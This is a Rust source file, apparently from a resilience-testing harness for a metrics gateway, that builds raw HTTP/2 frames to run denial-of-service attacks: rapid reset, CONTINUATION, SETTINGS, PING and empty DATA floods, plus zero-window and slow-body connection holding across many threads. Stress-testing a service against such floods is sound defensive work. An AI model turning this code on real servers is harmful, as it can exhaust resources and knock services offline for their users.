//! Frames of HTTP/2.

use std::io::{self, Read as _, Write as _};
use std::sync::Arc;
use std::time::Duration;

use anyhow::Result;
use rustls::ClientConfig;
use rustls::version::TLS13;

use crate::attack::{Attack, Play};
use crate::bodies::series;
use crate::http::put;
use crate::scene::{Scene, is_timeout};
use crate::stream::{TlsStream, client};

pub const ATTACKS: &[Attack] = &[
    Attack::new("h2-rapid-reset", "requests that are reset at once", rapid_reset).with_tls(),
    Attack::new("h2-continuations", "heads of endless CONTINUATION frames", continuations).with_tls(),
    Attack::new("h2-settings", "endless SETTINGS frames", settings).with_tls(),
    Attack::new("h2-pings", "endless PING frames whose answers nobody reads", pings).with_tls(),
    Attack::new("h2-empty-data", "endless empty DATA frames", empty_data).with_tls(),
    Attack::new(
        "h2-closed-windows",
        "32 scrapes on each of 100 connections, with windows of 0",
        closed_windows,
    )
    .with_tls()
    .stores_mib(32),
    Attack::new("h2-slow-bodies", "32 bodies on each of 100 connections, one byte at a time", slow_bodies)
        .with_tls(),
    Attack::new("h2-small-windows", "scrapes whose windows open by one byte", small_windows)
        .with_tls()
        .stores_mib(32),
];

const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;
const CANCEL: [u8; 4] = [0, 0, 0, 8];
/// How many streams the gateway allows at a time.
const STREAMS: u32 = 32;
const CONNECTIONS: usize = 100;

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = (payload.len() as u32).to_be_bytes();
    [&length[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

/// The fields of a request, without index and compression.
fn head(method: &str, path: &str) -> Vec<u8> {
    let fields = [(":method", method), (":scheme", "https"), (":path", path), (":authority", "gateway")];
    fields
        .iter()
        .flat_map(|(name, value)| {
            [&[0, name.len() as u8][..], name.as_bytes(), &[value.len() as u8], value.as_bytes()].concat()
        })
        .collect()
}

fn config(scene: &Scene) -> Result<Arc<ClientConfig>> {
    let mut config = scene.target.attacker_config(&[&TLS13])?;
    config.alpn_protocols = vec![b"h2".to_vec()];
    Ok(Arc::new(config))
}

/// Connects, and sends these settings (identifiers and values).
fn open(config: &Arc<ClientConfig>, scene: &Scene, settings: &[(u16, u32)]) -> io::Result<TlsStream> {
    let mut stream = client(config.clone(), scene.connect()?)?;
    let settings: Vec<u8> = settings
        .iter()
        .flat_map(|(id, value)| [&id.to_be_bytes()[..], &value.to_be_bytes()].concat())
        .collect();
    let preface = [&b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"[..], &frame(SETTINGS, 0, 0, &settings)].concat();
    stream.write_all(&preface)?;
    stream.flush()?;
    Ok(stream)
}

/// Sends what `next` makes, again and again, on a few connections of which nothing is read until the gateway ends them.
fn flood(
    scene: &Scene,
    first: Vec<u8>,
    next: impl Fn(u32) -> Vec<u8> + Sync + Send + 'static,
) -> Result<Play> {
    let config = config(scene)?;
    Ok(Box::new(move |scene| {
        scene.threads(8, |_| {
            while !scene.is_over() {
                let Ok(mut stream) = open(&config, scene, &[]) else {
                    scene.pause(Duration::from_millis(1));
                    continue;
                };
                if stream.write_all(&first).is_err() {
                    continue;
                }
                for round in 0.. {
                    if scene.is_over() || stream.write_all(&next(round)).is_err() || stream.flush().is_err() {
                        break;
                    }
                }
            }
        });
    }))
}

fn rapid_reset(scene: &Scene) -> Result<Play> {
    let head = head("GET", "/metrics");
    flood(scene, Vec::new(), move |round| {
        (0..16)
            .flat_map(|number| {
                let stream = 1 + 2 * (round * 16 + number);
                let request = frame(HEADERS, END_STREAM | END_HEADERS, stream, &head);
                [request, frame(RST_STREAM, 0, stream, &CANCEL)].concat()
            })
            .collect()
    })
}

fn continuations(scene: &Scene) -> Result<Play> {
    let field = [&[0, 1, b'a', 100][..], &[b'x'; 100]].concat();
    let more = frame(CONTINUATION, 0, 1, &field).repeat(16);
    flood(scene, frame(HEADERS, END_STREAM, 1, &head("GET", "/metrics")), move |_| more.clone())
}

fn settings(scene: &Scene) -> Result<Play> {
    let many = frame(SETTINGS, 0, 0, &[0, 1, 0, 0, 0, 0]).repeat(64);
    flood(scene, Vec::new(), move |_| many.clone())
}

fn pings(scene: &Scene) -> Result<Play> {
    let many = frame(PING, 0, 0, b"12345678").repeat(64);
    flood(scene, Vec::new(), move |_| many.clone())
}

fn empty_data(scene: &Scene) -> Result<Play> {
    let many = frame(DATA, 0, 1, b"").repeat(64);
    flood(scene, frame(HEADERS, END_HEADERS, 1, &head("PUT", "/metrics/job/attack")), move |_| many.clone())
}

/// Holds connections that have sent `first`. `act` makes what is sent in each round; connections that have ended are opened again.
fn hold(
    scene: &Scene,
    window: u32,
    first: Vec<u8>,
    act: impl Fn(usize) -> Vec<u8> + Send + 'static,
) -> Result<Play> {
    const INITIAL_WINDOW_SIZE: u16 = 4;
    let config = config(scene)?;
    Ok(Box::new(move |scene| {
        let mut all: Vec<Option<TlsStream>> = (0..CONNECTIONS).map(|_| None).collect();
        let mut round = 0;
        let mut buffer = vec![0; 16 << 10];
        while !scene.is_over() {
            let bytes = act(round);
            for slot in &mut all {
                if scene.is_over() {
                    return;
                }
                let Some(stream) = slot else {
                    let opened =
                        open(&config, scene, &[(INITIAL_WINDOW_SIZE, window)]).and_then(|mut stream| {
                            stream.write_all(&first)?;
                            stream.flush()?;
                            stream.sock.set_nonblocking(true)?;
                            Ok(stream)
                        });
                    *slot = opened.ok();
                    continue;
                };
                let is_open = |result: io::Result<usize>| match result {
                    Ok(count) => count > 0,
                    Err(error) => is_timeout(&error),
                };
                let sent = stream.write_all(&bytes).and_then(|()| stream.flush()).map(|()| 1);
                if !is_open(sent) || !is_open(stream.read(&mut buffer)) {
                    *slot = None;
                }
            }
            round += 1;
            scene.pause(Duration::from_millis(20));
        }
    }))
}

/// One request on each stream.
fn requests(flags: u8, method: &str, path: impl Fn(u32) -> String) -> Vec<u8> {
    (0..STREAMS)
        .flat_map(|number| frame(HEADERS, flags, 1 + 2 * number, &head(method, &path(number))))
        .collect()
}

/// Something to scrape that does not fit into the windows of a connection.
fn store(scene: &Scene) -> Result<()> {
    let count = if scene.is_quick { 5_000 } else { 50_000 };
    scene.set_up(&put("/metrics/job/attack", series("attack_http2", count)))
}

fn closed_windows(scene: &Scene) -> Result<Play> {
    store(scene)?;
    let first = requests(END_STREAM | END_HEADERS, "GET", |_| "/metrics".to_owned());
    hold(scene, 0, first, |_| Vec::new())
}

fn small_windows(scene: &Scene) -> Result<Play> {
    store(scene)?;
    let first = requests(END_STREAM | END_HEADERS, "GET", |_| "/metrics".to_owned());
    // One stream in each round, so that the credit for such frames lasts.
    hold(scene, 1, first, |round| frame(WINDOW_UPDATE, 0, 1 + 2 * (round as u32 % STREAMS), &[0, 0, 0, 1]))
}

fn slow_bodies(scene: &Scene) -> Result<Play> {
    let first = requests(END_HEADERS, "PUT", |number| format!("/metrics/job/attack/n/{number}"));
    hold(scene, 65_535, first, |round| frame(DATA, 0, 1 + 2 * (round as u32 % STREAMS), b"#"))
}
